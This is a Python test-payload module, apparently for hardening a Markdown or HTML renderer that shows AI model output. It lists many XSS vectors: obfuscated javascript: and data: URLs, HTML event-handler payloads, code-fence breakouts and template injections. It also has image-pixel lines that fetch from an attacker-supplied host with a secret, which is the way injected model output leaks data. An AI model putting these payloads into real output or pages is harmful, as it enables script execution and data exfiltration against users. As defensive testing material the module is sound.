"""Texts that a model, a tool or a stranger's document may hold to make a browser run or fetch something (T25).

`{u}` is an address of the attacker without its scheme; `{js}` is a script that leaves a mark in the window.
"""

SCRIPT = "window.pwned=1"

_ADDRESSES = (  # what may stand where Markdown wants an address
    "http://{u}/a", "https://user@{u}/a", "https://bank.example@{u}/", "//{u}/a", "///{u}/a", "\\\\{u}\\a", "https:{u}/a",
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "&#106;avascript:{js}", "javascript&colon;{js}",
    "javascript://{u}/%0a{js}", "\x01javascript:{js}", "\u00a0javascript:{js}", "\u200bjavascript:{js}", "vbscript:{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={js}>", "blob:https://{u}/x", "filesystem:https://{u}/x", "file:///etc/passwd",
    "ftp://{u}/a", "ws://{u}/a", "mailto:a@{u}", "tel:123", "intent://{u}/#Intent;end", "view-source:https://{u}/",
    "https://{u}\u202e/moc.knab", "https://{u}/\u2066bank.example", "https://xn--80ak6aa92e.example/?{u}", "chrome://settings",
)  # fmt: skip
_SHAPES = ("[bank.example]({a})", "![x]({a})", "[![x]({a})]({a})")
_FETCHING = (
    "![pixel](https://{u}/p.png?secret)", "![pixel](<https://{u}/p.png>)", '![pixel](https://{u}/p.png "title")',
    "![pixel][ref]\n\n[ref]: https://{u}/p.png", "![ref][]\n\n[ref]: https://{u}/p.png", "![ref]\n\n[ref]: https://{u}/p.png",
    "[ref]: https://{u}/p.png\n\n![pixel][ref]", "![a\nb](https://{u}/p.png)", "![](https://{u}/p.png)",
    "| ![x](https://{u}/p.png) |\n|---|\n| ![y](https://{u}/q.png) |", "> ![x](https://{u}/p.png)", "- ![x](https://{u}/p.png)",
    "# ![x](https://{u}/p.png)", "**![x](https://{u}/p.png)**", "[![x](https://{u}/p.png)](https://{u}/)",
    "![x](https://{u}/p.png =100x100)", "![x]( https://{u}/p.png )", "![x](https://{u}/a(b)c.png)", "!\\[x](https://{u}/p.png)",
)  # fmt: skip
_HTML = (
    "<script>{js}</script>", "<script src=https://{u}/x.js></script>", "<SCRIPT\n>{js}</SCRIPT>", "<<script>{js}//<</script>",
    "<img src=x onerror={js}>", "<img src=https://{u}/p.png>", "<img/src=x/onerror={js}>", '<img src="https://{u}/p" srcset="https://{u}/q 2x">',
    "<svg onload={js}>", "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><image href=https://{u}/p.png></svg>", "<svg><use href='https://{u}/s.svg#x'></svg>", "<math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={js} src>",
    "<iframe src=https://{u}/></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<object data=https://{u}/></object>",
    "<embed src=https://{u}/>", "<link rel=stylesheet href=https://{u}/x.css>", "<link rel=prefetch href=https://{u}/>",
    "<link rel=dns-prefetch href=//{u}>", "<meta http-equiv=refresh content='0;url=https://{u}/'>", "<base href=https://{u}/>",
    "<style>@import 'https://{u}/x.css';</style>", "<style>*{{background:url(https://{u}/p)}}</style>", "<div style='background:url(https://{u}/p)'>x</div>",
    "<video src=https://{u}/v autoplay>", "<video><source onerror={js}></video>", "<audio src=https://{u}/a autoplay onerror={js}>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<details open ontoggle={js}>x</details>", "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>", "<form action=https://{u}/><input name=a></form>", "<button formaction=javascript:{js}>x</button>",
    "<a href=javascript:{js}>x</a>", "<a href=https://{u}/ ping=https://{u}/ping>x</a>", "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<!--><img src=x onerror={js}>-->", "<![CDATA[<script>{js}</script>]]>",
    "<p id=transcript>clobbered</p><p id=composer>", "<img name=body><img id=defaultView>", "<x onclick={js} tabindex=1 id=x autofocus onfocus={js}>",
    "&lt;script&gt;{js}&lt;/script&gt;", "\\<script>{js}\\</script>", "<scr\x00ipt>{js}</scr\x00ipt>", "<br onload={js}>", "<br/ onload={js}>",
    "<portal src=https://{u}/>", "<fencedframe src=https://{u}/>", "<frameset onload={js}>", "<applet code=x archive=https://{u}/>",
)  # fmt: skip
_BREAKOUT = (
    "```html\n<script>{js}</script>\n```", "```\n</code></pre><script>{js}</script>\n```", "```<img src=x onerror={js}>\nx\n```",
    "`</code><script>{js}</script>`", '``` "><img src=x onerror={js}>\nx\n```', "~~~\n</pre><img src=https://{u}/p>\n~~~",
    '[x](https://{u}/ "onmouseover={js}")', '[x](https://{u}/"onmouseover={js})', "[x](https://{u}/'onmouseover='{js})",
    "[<img src=x onerror={js}>](https://ok.example/)", '[x](https://ok.example/"><script>{js}</script>)', 'https://ok.example/"><script>{js}</script>',
    '<https://ok.example/"onclick={js}>', "<javascript:{js}>", "<https://{u}/><script>{js}</script>", "[x](<javascript:{js}>)",
    "[x](javascript:{js} 'https://ok.example')", "[a](https://ok.example/)[b](javascript:{js})", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}",
    "| a |\n|---|\n| <script>{js}</script> |", "- [x] <img src=x onerror={js}>", "> <script>\n> {js}\n> </script>", "# <svg onload={js}>",
    "\u202e<script>{js}</script>", "\ufeff<script>{js}</script>", "<\u017fcript>{js}</\u017fcript>", "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "__proto__", "constructor", "[__proto__](https://ok.example/)", "%3Cscript%3E{js}%3C/script%3E", "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "*" * 4000, "[" * 4000, "![" * 2000, "`" * 3999, "> " * 2000, "- " * 2000, "|" * 4000 + "\n" + "-|" * 2000, "[x](" * 1500, "<" * 4000, "_" * 4000,
)  # fmt: skip


def payloads(attacker: str) -> list[str]:
    shaped = [shape.replace("{a}", address) for address in _ADDRESSES for shape in _SHAPES[:2]]
    shaped += [_SHAPES[2].replace("{a}", address) for address in _ADDRESSES[:6]]
    return [
        text.replace("{{", "{").replace("}}", "}").replace("{u}", attacker).replace("{js}", SCRIPT)
        for text in (*shaped, *_FETCHING, *_HTML, *_BREAKOUT)
    ]
